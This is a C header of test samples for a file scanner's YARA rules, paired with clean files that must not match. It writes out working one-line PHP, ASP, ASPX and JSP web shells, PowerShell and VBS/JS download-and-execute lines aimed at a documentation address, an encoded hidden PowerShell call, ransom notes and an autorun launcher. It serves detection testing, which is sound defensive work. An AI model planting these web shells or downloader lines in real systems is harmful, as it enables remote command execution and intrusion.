/*
 * scan_samples.h: a harmless sample for every default YARA rule
 * (rules/yara/), and ordinary files none of them may match. Shared by
 * tests/test_scanner.c and the vigil-scan-samples tool (which the
 * integration test and the benchmark use), so there is one list.
 *
 * Nothing here is malware: the EICAR string is assembled from two halves
 * (so this file is not itself "EICAR"), the "documents" are a few header
 * bytes and the names a rule looks for, the scripts point at 192.0.2.1
 * (TEST-NET-1) and the addresses are made up. Each sample is exactly what
 * its rule claims to check, no more.
 */
#ifndef VIGIL_SCAN_SAMPLES_H
#define VIGIL_SCAN_SAMPLES_H

#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#define SAMPLE_PE_SIZE	512
#define SAMPLE_MAX	65536		/* largest generated sample */

/* A minimal PE: "MZ", e_lfanew = 0x80, "PE\0\0", machine i386. */
static inline size_t
sample_pe(uint8_t *pe, size_t len)
{
	memset(pe, 0, SAMPLE_PE_SIZE);
	pe[0] = 'M';
	pe[1] = 'Z';
	pe[0x3c] = 0x80;
	memcpy(pe + 0x80, "PE\0\0", 4);
	pe[0x84] = 0x4c;
	pe[0x85] = 0x01;
	return SAMPLE_PE_SIZE;
}

/* UTF-16LE of an ASCII string (2 * strlen bytes). */
static inline size_t
sample_wide(uint8_t *out, const char *s)
{
	size_t	i;

	for (i = 0; s[i] != '\0'; i++) {
		out[2 * i] = (uint8_t)s[i];
		out[2 * i + 1] = 0;
	}
	return 2 * i;
}

static inline size_t
sample_eicar(uint8_t *buf, size_t len)
{
	int	n = snprintf((char *)buf, len, "%s%s\r\n",
	    "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR",
	    "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");

	return n > 0 ? (size_t)n : 0;
}

/* An OLE compound file header, then what a VBA project's identifier
 * table holds in clear: _VBA_PROJECT (UTF-16), AutoOpen, Shell. Not a
 * working document: exactly what the rule looks at. */
static inline size_t
sample_ole(uint8_t *buf, size_t len)
{
	static const uint8_t	hdr[8] = { 0xd0, 0xcf, 0x11, 0xe0, 0xa1,
	    0xb1, 0x1a, 0xe1 };
	size_t			n;

	memset(buf, 0, 1024);
	memcpy(buf, hdr, sizeof(hdr));
	n = 512;
	n += sample_wide(buf + n, "_VBA_PROJECT");
	n += 16;
	memcpy(buf + n, "AutoOpen\0Shell\0vigil test sample", 32);
	return n + 32;
}

/* The same header without a VBA project: a plain old .doc. */
static inline size_t
sample_ole_plain(uint8_t *buf, size_t len)
{
	size_t	n = sample_ole(buf, len);

	memset(buf + 512, 0, n - 512);
	sample_wide(buf + 512, "WordDocument");
	return n;
}

/* A ZIP local file header naming word/vbaProject.bin, with no data: the
 * rule looks only at the part name. */
static inline size_t
sample_ooxml(uint8_t *buf, size_t len)
{
	static const char	name[] = "word/vbaProject.bin";

	memset(buf, 0, 64);
	memcpy(buf, "PK\x03\x04\x14\x00\x06\x00", 8);
	buf[26] = sizeof(name) - 1;	/* file name length */
	memcpy(buf + 30, name, sizeof(name) - 1);
	return 30 + sizeof(name) - 1;
}

/* The same for an ordinary .docx. */
static inline size_t
sample_docx(uint8_t *buf, size_t len)
{
	static const char	name[] = "word/document.xml";

	memset(buf, 0, 64);
	memcpy(buf, "PK\x03\x04\x14\x00\x06\x00", 8);
	buf[26] = sizeof(name) - 1;
	memcpy(buf + 30, name, sizeof(name) - 1);
	return 30 + sizeof(name) - 1;
}

static inline size_t
sample_ransom_wide(uint8_t *buf, size_t len)
{
	buf[0] = 0xff;
	buf[1] = 0xfe;
	return 2 + sample_wide(buf + 2, "YOUR FILES ARE ENCRYPTED!\r\nTo "
	    "decrypt them install the Tor Browser and open "
	    "vigiltestsampleaddressnotrealaaaaaaaaaaaaaaaaaaaaaaaaaaa.onion\r\n");
}

/* 64 KiB of fixed pseudo-random bytes (xorshift64). */
static inline size_t
sample_random(uint8_t *buf, size_t len)
{
	uint64_t	x = 0x9e3779b97f4a7c15ULL;
	size_t		i, n = len < 65536 ? len : 65536;

	for (i = 0; i < n; i++) {
		x ^= x << 13;
		x ^= x >> 7;
		x ^= x << 17;
		buf[i] = (uint8_t)x;
	}
	return n;
}

struct scan_sample {
	const char	*rule;		/* must fire; NULL: nothing may */
	const char	*name;		/* relative path */
	const char	*text;		/* content, or NULL: make() */
	size_t		(*make)(uint8_t *buf, size_t len);
};

#define SAMPLE_ONION	\
	"vigiltestsampleaddressnotrealaaaaaaaaaaaaaaaaaaaaaaaaaaa.onion"

/* Every default rule at least once. The removable-media rule needs a
 * folder under /media/: names are relative to a folder the caller picks,
 * so "media/usb/" is inside it. */
static const struct scan_sample scan_samples[] = {
	{ "EICAR_Test_File", "eicar.com", NULL, sample_eicar },
	{ "Webshell_PHP_Eval_Request", "www/upload/x.php",
	    "<?php @eval($_POST['cmd']); ?>\n", NULL },
	{ "Webshell_PHP_Eval_Request", "www/upload/y.php",
	    "<?php $_GET['f']($_POST['c']); ?>\n", NULL },
	{ "Webshell_PHP_Obfuscated_Eval", "www/wp-content/cache.php",
	    "<?php eval(gzinflate(base64_decode('dmlnaWwgdGVzdA=='))); ?>\n",
	    NULL },
	{ "Webshell_ASP_Eval_Request", "iis/a.asp",
	    "<%eval request(\"pass\")%>\r\n", NULL },
	{ "Webshell_ASP_Eval_Request", "iis/b.aspx",
	    "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],"
	    "\"unsafe\");%>\r\n", NULL },
	{ "Webshell_ASPX_Cmd_Exec", "iis/cmd.aspx",
	    "<%@ Page Language=\"C#\" %>\r\n<%\r\nvar psi = new System."
	    "Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + "
	    "Request.Form[\"c\"]);\r\nSystem.Diagnostics.Process.Start(psi);"
	    "\r\n%>\r\n", NULL },
	{ "Webshell_JSP_Cmd_Exec", "tomcat/cmd.jsp",
	    "<% String c = request.getParameter(\"cmd\");\n"
	    "Process p = Runtime.getRuntime().exec(c); %>\n", NULL },
	{ "Ransom_Note", "share/README_DECRYPT.txt",
	    "All your files have been encrypted!\n"
	    "To decrypt them, pay 0.1 Bitcoin and write to us at\n"
	    "http://" SAMPLE_ONION "/\n", NULL },
	{ "Ransom_Note", "share/HOW_TO_RECOVER.html",
	    "<html><body><h1>Your important files are encrypted</h1>"
	    "<p>Send 300 USD in bitcoin to "
	    "bc1qtestsampleaddressfakeqqqqqqqqqqqq to get the decryption "
	    "key.</p><p>Decrypt one file for free.</p></body></html>\n", NULL },
	{ "Ransom_Note", "share/RESTORE_FILES.txt", NULL, sample_ransom_wide },
	{ "Office_OLE_AutoExec_Macro", "mail/invoice.doc", NULL, sample_ole },
	{ "Office_OOXML_VBA_Project", "mail/invoice.docm", NULL, sample_ooxml },
	{ "Script_PowerShell_EncodedCommand", "mail/run.bat",
	    "@echo off\r\npowershell.exe -NoProfile -WindowStyle Hidden -enc "
	    "VwByAGkAdABlAC0ASABvAHMAdAAgAHYAaQBnAGkAbAAtAHQAZQBzAHQALQBzAGEA"
	    "bQBwAGwAZQA=\r\n", NULL },
	{ "Script_PowerShell_Download_Execute", "mail/update.ps1",
	    "IEX (New-Object Net.WebClient).DownloadString("
	    "'http://192.0.2.1/vigil-test.ps1')\r\n", NULL },
	{ "Script_PowerShell_Download_Execute", "mail/setup.ps1",
	    "irm https://192.0.2.1/vigil-test.ps1 | iex\r\n", NULL },
	{ "Script_VBS_JS_Downloader", "mail/fattura.vbs",
	    "Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\n"
	    "h.Open \"GET\", \"http://192.0.2.1/vigil-test.exe\", False\r\n"
	    "h.Send\r\n"
	    "Set s = CreateObject(\"ADODB.Stream\")\r\n"
	    "s.Open\r\ns.Type = 1\r\ns.Write h.ResponseBody\r\n"
	    "s.SaveToFile \"vigil-test.exe\", 2\r\n"
	    "CreateObject(\"WScript.Shell\").Run \"vigil-test.exe\"\r\n", NULL },
	{ "Script_VBS_JS_Downloader", "mail/doc.js",
	    "var x = new ActiveXObject(\"WinHttp.WinHttpRequest.5.1\");\r\n"
	    "x.Open(\"GET\", \"http://192.0.2.1/t\", false); x.Send();\r\n"
	    "new ActiveXObject(\"WScript.Shell\").Run(\"cmd /c t\");\r\n", NULL },
	{ "Autorun_Inf_Launches_Program", "media/usb/autorun.inf",
	    "[autorun]\r\nopen=setup.exe\r\nicon=setup.exe,0\r\n", NULL },
	{ "Removable_Media_PE_Executable", "media/usb/setup.exe", NULL,
	    sample_pe },
};

/* Ordinary files, some close to a rule, that must not match. */
static const struct scan_sample scan_clean[] = {
	{ NULL, "clean/docs/article.txt",
	    "Ransomware hit the town hall: a message said 'your files are "
	    "encrypted' and asked for bitcoin to decrypt them. Do not pay; "
	    "call the provincial team.\n", NULL },
	{ NULL, "clean/www/index.php",
	    "<?php\n// never eval() user input\n$name = htmlspecialchars("
	    "$_POST['name'] ?? '');\n$st = $db->prepare('SELECT * FROM t "
	    "WHERE name = ?');\n$st->execute([$_GET['q']]);\necho \"<p>"
	    "Hello $name</p>\";\n", NULL },
	{ NULL, "clean/bin/backup.sh",
	    "#!/bin/sh\nset -e\ncurl -fsS -o /tmp/list https://example.org/"
	    "list\ntar czf /backup/home.tgz /home\nexec \"$@\"\n", NULL },
	{ NULL, "clean/bin/tools.ps1",
	    "powershell -ExecutionPolicy Bypass -File install.ps1\r\n"
	    "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB }\r\n"
	    "Invoke-WebRequest https://example.org/a.zip -OutFile a.zip\r\n",
	    NULL },
	{ NULL, "clean/bin/inventory.vbs",
	    "Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\n"
	    "Set f = fso.OpenTextFile(\"C:\\inventory.txt\", 1)\r\n", NULL },
	{ NULL, "clean/media/usb/autorun.inf",
	    "[autorun]\r\nicon=drive.ico\r\nlabel=Backup\r\n", NULL },
	{ NULL, "clean/www/page.html",
	    "<html><head><script>document.title = 'x';</script></head>"
	    "<body><%= not asp %></body></html>\n", NULL },
	{ NULL, "clean/data/random.bin", NULL, sample_random },
	/* an executable, but not on removable media */
	{ NULL, "clean/Downloads/setup.exe", NULL, sample_pe },
	{ NULL, "clean/docs/letter.doc", NULL, sample_ole_plain },
	{ NULL, "clean/docs/letter.docx", NULL, sample_docx },
	{ NULL, "clean/empty", "", NULL },
};

/* The bytes of s into buf[len] (len >= SAMPLE_MAX); their length. */
static inline size_t
scan_sample_bytes(const struct scan_sample *s, uint8_t *buf, size_t len)
{
	size_t	n;

	if (s->make != NULL)
		return s->make(buf, len);
	n = strlen(s->text);
	memcpy(buf, s->text, n < len ? n : len);
	return n < len ? n : len;
}

#endif
